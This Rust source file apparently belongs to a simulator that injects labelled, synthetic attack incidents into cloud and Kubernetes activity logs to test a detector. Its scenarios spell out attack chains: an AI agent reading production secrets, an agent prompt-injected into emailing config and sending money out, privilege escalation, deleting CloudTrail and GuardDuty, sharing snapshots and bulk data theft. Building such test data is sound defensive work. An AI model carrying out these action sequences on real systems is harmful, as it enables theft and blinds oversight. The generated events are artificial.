//! Attack scenarios: named, parameterised injections into a benign identity's own stream.
//!
//! Each incident picks a victim of the archetype the scenario needs, a day in the detection
//! period and a time, and adds the attacker's actions under the victim's identity, interleaved
//! with its normal work (which carries on). Volumes (how many roles enumerated, how many writes
//! tried, how much data taken) are drawn per incident, so no two incidents look alike.

use std::fmt;
use std::str::FromStr;

use rand::Rng;
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::act::{Act, Answer, Origin, What, HOUR, MIN, SEC};
use crate::fleet::{agent_session, business_time, stream, Archetype, Fleet};
use crate::SimConfig;

/// A named attack scenario.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Scenario {
    /// S1: an AI agent reads unrelated production secrets outside its tool scope.
    #[serde(rename = "S1-agent-reads-secrets")]
    AgentReadsSecrets,
    /// S2: a CI role enumerates IAM roles after its normal deploy; some calls denied.
    #[serde(rename = "S2-ci-enumerates-roles")]
    CiEnumeratesRoles,
    /// S3: a read-only integration attempts writes after a failed config change.
    #[serde(rename = "S3-readonly-attempts-writes")]
    ReadOnlyWrites,
    /// S4: a privileged automation runs an unusual command chain at an odd hour, then exports
    /// a large volume of data and shares a snapshot.
    #[serde(rename = "S4-automation-odd-chain-export")]
    AutomationExport,
    /// S5: stolen credentials used from a new origin.
    #[serde(rename = "S5-stolen-credentials-new-origin")]
    StolenCredentials,
    /// S6: a privilege-escalation chain (access key for another user, policy attach, PassRole
    /// to a new function).
    #[serde(rename = "S6-privilege-escalation")]
    PrivilegeEscalation,
    /// S7: defense evasion: CloudTrail stopped and deleted, GuardDuty and flow logs removed.
    #[serde(rename = "S7-defense-evasion")]
    DefenseEvasion,
    /// S8: an agent follows an injected instruction and sends data and money to an outside party.
    #[serde(rename = "S8-agent-prompt-injection")]
    AgentPromptInjection,
    /// S9: a Kubernetes workload's service account reads secrets across namespaces and binds
    /// itself to cluster-admin.
    #[serde(rename = "S9-workload-secrets-escalation")]
    WorkloadSecrets,
}

impl Scenario {
    /// Every scenario.
    pub const ALL: [Scenario; 9] = [
        Scenario::AgentReadsSecrets,
        Scenario::CiEnumeratesRoles,
        Scenario::ReadOnlyWrites,
        Scenario::AutomationExport,
        Scenario::StolenCredentials,
        Scenario::PrivilegeEscalation,
        Scenario::DefenseEvasion,
        Scenario::AgentPromptInjection,
        Scenario::WorkloadSecrets,
    ];

    /// The scenario's label name, e.g. `S2-ci-enumerates-roles`.
    pub fn name(self) -> &'static str {
        match self {
            Scenario::AgentReadsSecrets => "S1-agent-reads-secrets",
            Scenario::CiEnumeratesRoles => "S2-ci-enumerates-roles",
            Scenario::ReadOnlyWrites => "S3-readonly-attempts-writes",
            Scenario::AutomationExport => "S4-automation-odd-chain-export",
            Scenario::StolenCredentials => "S5-stolen-credentials-new-origin",
            Scenario::PrivilegeEscalation => "S6-privilege-escalation",
            Scenario::DefenseEvasion => "S7-defense-evasion",
            Scenario::AgentPromptInjection => "S8-agent-prompt-injection",
            Scenario::WorkloadSecrets => "S9-workload-secrets-escalation",
        }
    }

    /// The archetype a victim must have.
    fn victim(self) -> Archetype {
        match self {
            Scenario::AgentReadsSecrets | Scenario::AgentPromptInjection => Archetype::CodingAgent,
            Scenario::CiEnumeratesRoles | Scenario::DefenseEvasion => Archetype::Deployer,
            Scenario::ReadOnlyWrites | Scenario::StolenCredentials => Archetype::Reader,
            Scenario::AutomationExport | Scenario::PrivilegeEscalation => Archetype::Automation,
            Scenario::WorkloadSecrets => Archetype::Controller,
        }
    }
}

impl fmt::Display for Scenario {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Scenario {
    type Err = String;

    /// Accepts the full name or its `S<n>` prefix, case-insensitively.
    fn from_str(text: &str) -> Result<Self, Self::Err> {
        Scenario::ALL
            .into_iter()
            .find(|s| {
                s.name().eq_ignore_ascii_case(text)
                    || s.name()
                        .split('-')
                        .next()
                        .is_some_and(|p| p.eq_ignore_ascii_case(text))
            })
            .ok_or_else(|| {
                let names: Vec<_> = Scenario::ALL.iter().map(|s| s.name()).collect();
                format!(
                    "unknown scenario `{text}`; expected all, none, or some of: {}",
                    names.join(", ")
                )
            })
    }
}

/// One line of `labels.jsonl`.
#[derive(Clone, Debug, Serialize, Deserialize, PartialEq)]
pub struct Label {
    /// Incident number, from 0.
    pub incident: usize,
    /// Scenario name.
    pub scenario: String,
    /// The victim's identity id, as nhiwatch normalises it.
    pub identity: String,
    /// Ids of the malicious events, in time order.
    pub event_ids: Vec<String>,
    /// Time of the first malicious event, RFC 3339.
    pub start: String,
}

/// A planned incident.
pub(crate) struct Incident {
    index: usize,
    scenario: Scenario,
    victim: usize,
    day: u32,
    seed: u64,
    identity: String,
}

/// Chooses victims, days and times for every incident of the configured scenarios.
pub(crate) fn plan(config: &SimConfig, fleet: &Fleet) -> Vec<Incident> {
    let mut rng = stream(config.seed, &[2]);
    let first_day = config.attack_after_days.min(config.days.saturating_sub(1));
    let mut incidents = Vec::new();
    let mut used = vec![false; fleet.actors.len()];
    for scenario in &config.attacks {
        let candidates: Vec<usize> = (0..fleet.actors.len())
            .filter(|&i| fleet.actors[i].archetype == scenario.victim())
            .filter(|&i| {
                scenario.victim() != Archetype::Automation
                    || fleet.actors[i].backups == (*scenario == Scenario::AutomationExport)
            })
            .collect();
        let candidates = if candidates.is_empty() {
            (0..fleet.actors.len())
                .filter(|&i| fleet.actors[i].archetype == scenario.victim())
                .collect()
        } else {
            candidates
        };
        for _ in 0..config.incidents_per_scenario {
            let free: Vec<usize> = candidates.iter().copied().filter(|&i| !used[i]).collect();
            let pool = if free.is_empty() { &candidates } else { &free };
            if pool.is_empty() {
                continue;
            }
            let victim = pool[rng.random_range(0..pool.len())];
            used[victim] = true;
            let mut day = rng.random_range(first_day..config.days);
            // People-driven identities are attacked on a workday, amid their normal work.
            if matches!(
                scenario.victim(),
                Archetype::Deployer | Archetype::CodingAgent
            ) {
                let workday = |d: u32| {
                    crate::fleet::weekday(config.start_day + i64::from(d)) < 5
                        && fleet.holiday != Some(d)
                };
                // The next workday in the attack period, wrapping once; none: keep the day.
                let span = config.days - first_day;
                if let Some(next) = (0..span)
                    .map(|step| first_day + (day - first_day + step) % span)
                    .find(|d| workday(*d))
                {
                    day = next;
                }
            }
            incidents.push(Incident {
                index: incidents.len(),
                scenario: *scenario,
                victim,
                day,
                seed: rng.random(),
                identity: fleet.actors[victim].identity_id(),
            });
        }
    }
    incidents
}

impl Incident {
    /// The label, with event ids filled in as the events are written.
    pub fn label(&self) -> Label {
        Label {
            incident: self.index,
            scenario: self.scenario.name().to_owned(),
            identity: self.identity.clone(),
            event_ids: Vec::new(),
            start: String::new(),
        }
    }

    /// Adds the incident's acts to `acts` when `day` is its day.
    pub fn inject(&self, day: u32, fleet: &Fleet, acts: &mut Vec<Act>) {
        if day != self.day {
            return;
        }
        let mut rng = stream(self.seed, &[3]);
        let actor = &fleet.actors[self.victim];
        let start = fleet.day_start(day);
        let mut chain = Chain {
            acts: Vec::new(),
            actor: self.victim,
            session: day * 1000 + 900,
            time: 0,
            origin: None,
        };
        let account = actor.account;
        let team = actor.team;
        match self.scenario {
            Scenario::AgentReadsSecrets => {
                chain.time = business_time(&mut rng, start);
                let repo = actor.targets[0].clone();
                for call in agent_session(&mut rng, &repo, team).into_iter().take(3) {
                    chain.tool_what(&mut rng, call);
                }
                for path in [".env", "deploy/prod/.env", "config/prod/secrets.yaml"] {
                    chain.tool(
                        &mut rng,
                        "read_file",
                        vec![("repo", repo.clone()), ("path", path.to_owned())],
                    );
                }
                for secret in ["prod/payments/db-password", "prod/stripe/api-key"] {
                    chain.tool(&mut rng, "get_secret", vec![("name", secret.to_owned())]);
                }
            }
            Scenario::AgentPromptInjection => {
                chain.time = business_time(&mut rng, start);
                let repo = actor.targets[0].clone();
                chain.tool(
                    &mut rng,
                    "read_file",
                    vec![
                        ("repo", repo.clone()),
                        ("path", "docs/CONTRIBUTING.md".into()),
                    ],
                );
                chain.tool(
                    &mut rng,
                    "read_file",
                    vec![
                        ("repo", repo.clone()),
                        ("path", "config/settings.py".into()),
                    ],
                );
                chain.tool(
                    &mut rng,
                    "send_email",
                    vec![
                        ("to", "billing@invoices-verify.example".into()),
                        ("subject", "config".into()),
                    ],
                );
                let amount = rng.random_range(900..9_900);
                chain.tool(
                    &mut rng,
                    "send_money",
                    vec![
                        ("recipient", "GB29NWBK60161331926819".into()),
                        ("amount", amount.to_string()),
                    ],
                );
            }
            Scenario::CiEnumeratesRoles => {
                chain.time = business_time(&mut rng, start);
                chain.aws(&mut rng, "sts", "GetCallerIdentity", vec![], Answer::Ok);
                chain.aws(&mut rng, "iam", "ListRoles", vec![], Answer::Ok);
                let roles = rng.random_range(8..25);
                for r in 0..roles {
                    let role = format!(
                        "{}-{}",
                        ["admin", "ops", "data", "billing", "audit", "break-glass"][r % 6],
                        r
                    );
                    let answer = if rng.random_bool(0.3) {
                        Answer::Denied
                    } else {
                        Answer::Ok
                    };
                    chain.aws(
                        &mut rng,
                        "iam",
                        "GetRole",
                        vec![("roleName", role.clone())],
                        answer,
                    );
                    chain.aws(
                        &mut rng,
                        "iam",
                        "ListAttachedRolePolicies",
                        vec![("roleName", role)],
                        answer,
                    );
                }
            }
            Scenario::ReadOnlyWrites => {
                chain.time = start + rng.random_range(0..20) * HOUR;
                let bucket = actor.targets[0].clone();
                for n in 0..rng.random_range(15..45) {
                    let (service, op, params) = if n % 3 == 2 {
                        (
                            "dynamodb",
                            "UpdateItem",
                            vec![("tableName", format!("{team}-orders"))],
                        )
                    } else {
                        (
                            "s3",
                            "PutObject",
                            vec![
                                ("bucketName", bucket.clone()),
                                ("key", format!("daily/sync-{n}.json")),
                            ],
                        )
                    };
                    chain.aws(&mut rng, service, op, params, Answer::Denied);
                }
            }
            Scenario::AutomationExport => {
                // The odd hour: mid-morning on a Sunday-like quiet time, far from its 02:00 run.
                chain.time = start + rng.random_range(10..13) * HOUR + rng.random_range(0..HOUR);
                chain.aws(&mut rng, "sts", "GetCallerIdentity", vec![], Answer::Ok);
                chain.aws(&mut rng, "ec2", "DescribeInstances", vec![], Answer::Ok);
                chain.aws(
                    &mut rng,
                    "ssm",
                    "SendCommand",
                    vec![("documentName", "AWS-RunShellScript".into())],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "ec2",
                    "CreateSnapshot",
                    vec![("volumeId", "vol-0a1b2c3d4e5f60718".into())],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "ec2",
                    "ModifySnapshotAttribute",
                    vec![
                        ("snapshotId", "snap-0f1e2d3c4b5a69788".into()),
                        ("createVolumePermission", "add:210987654321".into()),
                    ],
                    Answer::Ok,
                );
                let bucket = format!("acme-{team}-backups");
                for n in 0..rng.random_range(40..90) {
                    let mut act = chain.next(
                        &mut rng,
                        "s3",
                        "GetObject",
                        vec![
                            ("bucketName", bucket.clone()),
                            ("key", format!("full/{n:05}.tar.zst")),
                        ],
                    );
                    act = act.bytes(rng.random_range(400_000_000..900_000_000));
                    chain.acts.push(act);
                }
            }
            Scenario::StolenCredentials => {
                chain.time = start + rng.random_range(0..24) * HOUR + rng.random_range(0..HOUR);
                chain.origin = Some(Origin {
                    ip: format!(
                        "185.220.{}.{}",
                        rng.random_range(100..104),
                        rng.random_range(1..255)
                    ),
                    user_agent: "aws-cli/2.13.0 Python/3.11.4 Darwin/22.6.0 exe/x86_64 prompt/off"
                        .into(),
                });
                chain.aws(&mut rng, "sts", "GetCallerIdentity", vec![], Answer::Ok);
                chain.aws(&mut rng, "s3", "ListBuckets", vec![], Answer::Ok);
                for bucket in actor.targets.clone() {
                    chain.aws(
                        &mut rng,
                        "s3",
                        "ListObjects",
                        vec![("bucketName", bucket.clone()), ("prefix", String::new())],
                        Answer::Ok,
                    );
                    for n in 0..rng.random_range(3..8) {
                        let act = chain
                            .next(
                                &mut rng,
                                "s3",
                                "GetObject",
                                vec![
                                    ("bucketName", bucket.clone()),
                                    ("key", format!("archive/{n:03}.parquet")),
                                ],
                            )
                            .bytes(rng.random_range(5_000_000..60_000_000));
                        chain.acts.push(act);
                    }
                }
            }
            Scenario::PrivilegeEscalation => {
                chain.time = start + rng.random_range(0..24) * HOUR;
                chain.aws(
                    &mut rng,
                    "iam",
                    "CreateAccessKey",
                    vec![("userName", "admin-breakglass".into())],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "iam",
                    "AttachUserPolicy",
                    vec![
                        ("userName", format!("svc-{team}-legacy")),
                        (
                            "policyArn",
                            "arn:aws:iam::aws:policy/AdministratorAccess".into(),
                        ),
                    ],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "iam",
                    "PassRole",
                    vec![("roleName", format!("lambda-admin-{account}"))],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "lambda",
                    "CreateFunction20150331",
                    vec![("functionName", "sync-helper".into())],
                    Answer::Ok,
                );
            }
            Scenario::DefenseEvasion => {
                chain.time = business_time(&mut rng, start);
                chain.aws(&mut rng, "cloudtrail", "DescribeTrails", vec![], Answer::Ok);
                chain.aws(
                    &mut rng,
                    "cloudtrail",
                    "StopLogging",
                    vec![("name", "org-trail".into())],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "guardduty",
                    "DeleteDetector",
                    vec![("detectorId", "12abc34d567e8fa901bc2d34e56789f0".into())],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "ec2",
                    "DeleteFlowLogs",
                    vec![("flowLogIds", "fl-0123456789abcdef0".into())],
                    Answer::Ok,
                );
                chain.aws(
                    &mut rng,
                    "cloudtrail",
                    "DeleteTrail",
                    vec![("name", "org-trail".into())],
                    Answer::Ok,
                );
            }
            Scenario::WorkloadSecrets => {
                chain.time = start + rng.random_range(0..24) * HOUR;
                chain.k8s(&mut rng, "list", "secrets", None, "", None, Answer::Ok);
                for ns in ["kube-system", "payments", "identity", "ledger"] {
                    let answer = if ns == "kube-system" {
                        Answer::Denied
                    } else {
                        Answer::Ok
                    };
                    chain.k8s(
                        &mut rng,
                        "get",
                        "secrets",
                        None,
                        ns,
                        Some(format!("{ns}-db-credentials")),
                        answer,
                    );
                }
                chain.k8s(
                    &mut rng,
                    "create",
                    "clusterrolebindings",
                    None,
                    "",
                    Some(format!("{team}-admin")),
                    Answer::Ok,
                );
                chain.k8s(
                    &mut rng,
                    "create",
                    "pods",
                    Some("exec"),
                    "kube-system",
                    Some("etcd-node-1".into()),
                    Answer::Ok,
                );
            }
        }
        for mut act in chain.acts {
            act.incident = Some(self.index);
            acts.push(act);
        }
    }
}

/// Builds an incident's acts one after another, a few seconds apart.
struct Chain {
    acts: Vec<Act>,
    actor: usize,
    session: u32,
    time: i64,
    origin: Option<Origin>,
}

impl Chain {
    fn advance(&mut self, rng: &mut ChaCha8Rng) -> i64 {
        self.time += rng.random_range(2 * SEC..45 * SEC);
        if rng.random_bool(0.05) {
            self.time += rng.random_range(MIN..5 * MIN);
        }
        self.time
    }

    fn next(
        &mut self,
        rng: &mut ChaCha8Rng,
        service: &'static str,
        op: &'static str,
        params: Vec<(&'static str, String)>,
    ) -> Act {
        let time = self.advance(rng);
        let mut act = Act::aws(time, self.actor, self.session, service, op);
        for (name, value) in params {
            act = act.param(name, value);
        }
        act.origin = self.origin.clone();
        act
    }

    fn aws(
        &mut self,
        rng: &mut ChaCha8Rng,
        service: &'static str,
        op: &'static str,
        params: Vec<(&'static str, String)>,
        answer: Answer,
    ) {
        let act = self.next(rng, service, op, params).answer(answer);
        self.acts.push(act);
    }

    fn tool(
        &mut self,
        rng: &mut ChaCha8Rng,
        tool: &'static str,
        args: Vec<(&'static str, String)>,
    ) {
        self.tool_what(rng, What::Tool { tool, args });
    }

    fn tool_what(&mut self, rng: &mut ChaCha8Rng, what: What) {
        let time = self.advance(rng);
        self.acts.push(Act {
            time,
            actor: self.actor,
            session: self.session,
            what,
            answer: Answer::Ok,
            origin: None,
            incident: None,
        });
    }

    #[allow(clippy::too_many_arguments)]
    fn k8s(
        &mut self,
        rng: &mut ChaCha8Rng,
        verb: &'static str,
        resource: &'static str,
        sub: Option<&'static str>,
        namespace: &str,
        name: Option<String>,
        answer: Answer,
    ) {
        let time = self.advance(rng);
        self.acts.push(Act {
            time,
            actor: self.actor,
            session: self.session,
            what: What::K8s {
                verb,
                resource,
                sub,
                namespace: namespace.to_owned(),
                name,
            },
            answer,
            origin: None,
            incident: None,
        });
    }
}
